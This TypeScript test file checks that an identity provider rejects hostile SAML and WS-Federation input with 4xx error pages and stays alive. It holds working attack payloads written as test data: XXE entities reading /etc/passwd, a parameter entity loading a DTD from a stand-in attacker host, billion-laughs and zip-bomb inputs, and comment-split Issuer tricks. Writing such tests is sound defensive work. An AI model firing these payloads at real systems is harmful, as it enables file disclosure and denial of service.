/**
 * Hostile XML at every entry point that reads XML (SAML Redirect binding, SAML POST binding), and
 * hostile parameters where WS-Federation reads none: each one is a 4xx error page with a correlation
 * id and no stack trace, and the process keeps answering /healthz.
 */
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import request from 'supertest';
import { assertRefusedPage, authnRequestXml, logoutRequestXml, newId, postBody } from '../helpers/hostile.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { NS } from '../../src/xml/namespaces.js';

const IDP_SSO = 'http://127.0.0.1/adfs/ls/';
const SP = 'https://sp.example.test/saml';
const ACS = 'https://sp.example.test/saml/acs';
const REALM = 'urn:app:wsfed';
const REPLY = 'https://rp.example.test/wsfed';

const valid = () => authnRequestXml({ issuer: SP, destination: IDP_SSO, acsUrl: ACS });
const withIssuer = (issuerMarkup: string) => valid().replace(/<saml:Issuer>[^<]*<\/saml:Issuer>/, issuerMarkup);

function billionLaughs(): string {
  const lol = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lol.join('\n')}\n]>\n${withIssuer('<saml:Issuer>&lol9;</saml:Issuer>')}`;
}

/** [name, xml] */
const XML_CASES: Array<[string, () => string]> = [
  ['XXE external entity', () => `<?xml version="1.0"?>\n<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${withIssuer('<saml:Issuer>&xxe;</saml:Issuer>')}`],
  ['XXE parameter entity', () => `<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.test/evil.dtd"> %ext;]>\n${valid()}`],
  ['billion laughs', billionLaughs],
  ['DOCTYPE without entities', () => `<!DOCTYPE samlp:AuthnRequest>\n${valid()}`],
  ['DOCTYPE with lowercase and spaces', () => `<! doctype x>${valid()}`],
  ['two roots', () => `${valid()}${valid()}`],
  ['two roots, text-separated', () => `${valid()}\n<samlp:AuthnRequest xmlns:samlp="${NS.samlp}" ID="_two"/>`],
  ['duplicate IDs', () => {
    const id = newId();
    return authnRequestXml({ issuer: SP, destination: IDP_SSO, acsUrl: ACS, id }).replace('<samlp:NameIDPolicy', `<samlp:Extensions><x xmlns="urn:x" ID="${id}"/></samlp:Extensions><samlp:NameIDPolicy`);
  }],
  ['comment splitting the Issuer', () => withIssuer(`<saml:Issuer>https://sp.example.test<!---->/saml</saml:Issuer>`)],
  ['CDATA-split Issuer with a comment', () => withIssuer(`<saml:Issuer><![CDATA[https://sp.example.test]]><!--x-->/saml</saml:Issuer>`)],
  ['two Issuer elements', () => withIssuer(`<saml:Issuer>${SP}</saml:Issuer><saml:Issuer>https://attacker.test/</saml:Issuer>`)],
  ['two NameIDPolicy elements', () => valid().replace('<samlp:NameIDPolicy', '<samlp:NameIDPolicy/><samlp:NameIDPolicy')],
  ['AuthnRequest in a wrong namespace', () => valid().replace(`xmlns:samlp="${NS.samlp}"`, 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol:evil"')],
  ['AuthnRequest in no namespace', () => valid().replace(/samlp:AuthnRequest/g, 'AuthnRequest')],
  ['Issuer in a wrong namespace', () => valid().replace(`xmlns:saml="${NS.saml}"`, 'xmlns:saml="urn:evil"')],
  ['SAML 1.1 protocol namespace', () => valid().replace(`xmlns:samlp="${NS.samlp}"`, 'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"')],
  ['processing instruction', () => valid().replace('<saml:Issuer>', '<?evil x?><saml:Issuer>')],
  ['1000-deep nesting', () => valid().replace('<samlp:NameIDPolicy', `${'<x:a xmlns:x="urn:x">'.repeat(1000)}${'</x:a>'.repeat(1000)}<samlp:NameIDPolicy`)],
  ['NUL character reference in the Issuer', () => withIssuer('<saml:Issuer>https://sp.example.test/saml&#0;</saml:Issuer>')],
  ['not XML at all', () => 'hello, world'],
  ['empty document', () => ''],
  ['unclosed root', () => valid().replace('</samlp:AuthnRequest>', '')],
  ['LogoutResponse sent as SAMLRequest', () => `<samlp:LogoutResponse xmlns:samlp="${NS.samlp}" xmlns:saml="${NS.saml}" ID="${newId()}" Version="2.0" IssueInstant="${new Date().toISOString()}"><saml:Issuer>${SP}</saml:Issuer></samlp:LogoutResponse>`],
  ['LogoutRequest without NameID', () => logoutRequestXml({ issuer: SP, destination: IDP_SSO }).replace(/<saml:NameID[^>]*>[^<]*<\/saml:NameID>/, '')],
];

/** Bugs found here (see the report): OpenFed answers 500 where a 4xx refusal is due. */
describe('hostile XML and parameters at every entry point', () => {
  let server: TestServer;

  before(async () => {
    server = await startTestServer({
      server: { baseUrl: 'http://127.0.0.1' },
      relyingParties: [
        {
          entityId: SP,
          assertionConsumerServices: [{ url: ACS, binding: 'post', index: 0, isDefault: true }],
          allowUnsignedLogout: true,
        },
      ],
      wsfedRelyingParties: [{ realm: REALM, replyUrls: [REPLY] }],
    });
  });
  after(() => server?.stop());

  const alive = async () => assert.equal((await request(server.url).get('/healthz').timeout(5000)).status, 200, 'process still answers /healthz');
  const redirect = (xml: string) =>
    request(server.url).get(`/adfs/ls/?SAMLRequest=${encodeURIComponent(deflateRawSync(Buffer.from(xml, 'utf8')).toString('base64'))}`).timeout(10_000);
  const post = (xml: string) => request(server.url).post('/adfs/ls/').type('form').send({ SAMLRequest: postBody(xml) }).timeout(10_000);

  for (const [what, make] of XML_CASES) {
    for (const [binding, send] of [['Redirect', redirect], ['POST', post]] as const) {
      test(`${binding} binding: ${what} → 4xx error page`, async () => {
        const res = await send(make());
        assertRefusedPage(res, `${binding} ${what}`);
        await alive();
      });
    }
  }

  test('control: the unmodified request is accepted by both bindings', async () => {
    assert.equal((await redirect(valid())).status, 303);
    assert.equal((await post(valid())).status, 303);
  });

  test('Redirect binding: a zip bomb (inflates far beyond saml.maxMessageBytes) is refused without inflating it all', async () => {
    const bomb = valid().replace('<saml:Issuer>', `<!--${' '.repeat(50 * 1024 * 1024)}--><saml:Issuer>`);
    const compressed = deflateRawSync(Buffer.from(bomb, 'utf8'), { level: 9 }).toString('base64');
    assert.ok(compressed.length < 80_000, `the bomb travels small (${compressed.length} base64 chars)`);
    const started = Date.now();
    const res = await request(server.url).get(`/adfs/ls/?SAMLRequest=${encodeURIComponent(compressed)}`).timeout(10_000);
    // Node's 16 KiB header limit may stop the URL before OpenFed sees it (431): refused either way.
    if (res.status !== 431) assertRefusedPage(res, 'zip bomb');
    else assert.equal(res.status, 431);
    assert.ok(Date.now() - started < 5000, 'answered quickly');
    await alive();
  });

  test('Redirect binding: a zip bomb small enough for the URL, inflating just past the cap, is refused', async () => {
    const cap = server.config.saml.maxMessageBytes;
    const bomb = valid().replace('<saml:Issuer>', `<!--${'A'.repeat(cap)}--><saml:Issuer>`);
    const compressed = deflateRawSync(Buffer.from(bomb, 'utf8'), { level: 9 }).toString('base64');
    assert.ok(compressed.length < 4000);
    const res = await request(server.url).get(`/adfs/ls/?SAMLRequest=${encodeURIComponent(compressed)}`).timeout(10_000);
    assertRefusedPage(res, 'small zip bomb');
    await alive();
  });

  test('POST binding: a message over saml.maxMessageBytes but under the body limit is refused', async () => {
    const big = valid().replace('<saml:Issuer>', `<!--${'A'.repeat(server.config.saml.maxMessageBytes + 10)}--><saml:Issuer>`);
    const res = await post(big);
    assertRefusedPage(res, 'POST message too large');
    await alive();
  });

  test('POST binding: an oversized body is refused (413) with an error page', async () => {
    const res = await request(server.url).post('/adfs/ls/').type('form').send(`SAMLRequest=${'A'.repeat(2 * 1024 * 1024)}`).timeout(10_000);
    assert.equal(res.status, 413);
    assertRefusedPage(res, 'oversized POST');
    await alive();
  });

  test('POST binding: too many form parameters are refused', async () => {
    const body = Array.from({ length: 50 }, (_, i) => `p${i}=x`).join('&');
    const res = await request(server.url).post('/adfs/ls/').type('form').send(body).timeout(10_000);
    assertRefusedPage(res, 'too many parameters');
    await alive();
  });

  const paramCases: Array<[string, string]> = [
    ['SAMLRequest twice', `SAMLRequest=${encodeURIComponent(postBody(valid()))}&SAMLRequest=x`],
    ['SAMLRequest and SAMLResponse', `SAMLRequest=${encodeURIComponent(postBody(valid()))}&SAMLResponse=x`],
    ['RelayState twice', `SAMLRequest=${encodeURIComponent(postBody(valid()))}&RelayState=a&RelayState=b`],
    ['SAMLRequest not base64', 'SAMLRequest=%3C%3E%3C%3E'],
    ['SAMLRequest base64 of invalid UTF-8', `SAMLRequest=${encodeURIComponent(Buffer.from([0xc3, 0x28, 0xff]).toString('base64'))}`],
    ['SAMLRequest empty', 'SAMLRequest='],
    ['wa=wsignin1.0 without wtrealm', 'wa=wsignin1.0'],
    ['wtrealm twice', `wa=wsignin1.0&wtrealm=${encodeURIComponent(REALM)}&wtrealm=x`],
    ['wa twice', `wa=wsignin1.0&wa=wsignout1.0&wtrealm=${encodeURIComponent(REALM)}`],
    ['unknown wa', 'wa=wsignin9.9'],
    ['wtrealm too long', `wa=wsignin1.0&wtrealm=${'r'.repeat(1100)}`],
    ['wctx too long', `wa=wsignin1.0&wtrealm=${encodeURIComponent(REALM)}&wctx=${'c'.repeat(17_000)}`],
    ['wfresh not a number', `wa=wsignin1.0&wtrealm=${encodeURIComponent(REALM)}&wfresh=-1`],
    ['wfresh huge', `wa=wsignin1.0&wtrealm=${encodeURIComponent(REALM)}&wfresh=99999999999`],
    ['wreply twice', `wa=wsignin1.0&wtrealm=${encodeURIComponent(REALM)}&wreply=${encodeURIComponent(REPLY)}&wreply=${encodeURIComponent(REPLY)}`],
    ['unknown realm', 'wa=wsignin1.0&wtrealm=urn%3Aunknown'],
    ['wresult XML to the sign-in endpoint', `wa=wsignin1.0&wtrealm=${encodeURIComponent(REALM)}&wresult=${encodeURIComponent('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')}&wfresh=x`],
    ['resume twice', 'resume=aaaaaaaaaaaaaaaaaaaa&resume=bbbbbbbbbbbbbbbbbbbb'],
    ['nothing at all', ''],
  ];
  for (const [what, body] of paramCases) {
    for (const method of ['GET', 'POST'] as const) {
      test(`${method} /adfs/ls/: ${what} → 4xx error page`, async () => {
        // wctx=17000 fits a form but would be a 17 KB URL; GET tests the same parser with a shorter excess.
        const query = method === 'GET' ? body.replace('c'.repeat(17_000), 'c'.repeat(16_385)) : body;
        const res =
          method === 'GET'
            ? await request(server.url).get(`/adfs/ls/?${query}`).timeout(10_000)
            : await request(server.url).post('/adfs/ls/').type('form').send(body).timeout(10_000);
        if (res.status === 431) return; // URL over Node's header limit: refused before OpenFed
        assertRefusedPage(res, `${method} ${what}`);
        await alive();
      });
    }
  }
});
